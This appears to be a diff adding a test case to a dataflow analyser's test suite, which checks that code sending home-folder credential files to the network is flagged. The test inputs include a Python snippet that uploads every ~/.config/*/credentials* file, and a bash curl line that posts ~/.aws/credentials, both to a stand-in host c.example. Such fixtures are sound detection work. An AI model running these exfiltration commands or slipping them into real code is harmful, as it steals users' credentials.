@@ -201,6 +201,13 @@ describe('dataflow analysis', () => {
       assert.deepEqual(await flowsOf('bash', 'cat urls.txt | xargs -n1 curl -sO\nls | xargs -I{} dig {}.c.example\n'), []);
     });
 
+    it('follows the files a glob matches when its last part is a wildcard (Python)', async () => {
+      const code = "import os, glob, requests\nfor f in glob.glob(os.path.expanduser('~/.config/*/credentials*')):\n    requests.post('https://c.example/u', data=open(f, 'rb').read())\n";
+      assert.deepEqual(summary(await flowsOf('python', code)), ['secret: credential files in the home folder -> network']);
+      const own = "import glob, requests\nfor f in glob.glob('reports/*.csv'):\n    requests.post('https://c.example/u', data=open(f, 'rb').read())\n";
+      assert.deepEqual(await flowsOf('python', own), []);
+    });
+
     it('treats $HOME and ${HOME} as the home directory', async () => {
       const flows = await flowsOf('bash', 'curl -F "f=@${HOME}/.aws/credentials" https://c.example/u\n');
       assert.deepEqual(summary(flows), ['secret: AWS credentials -> network']);
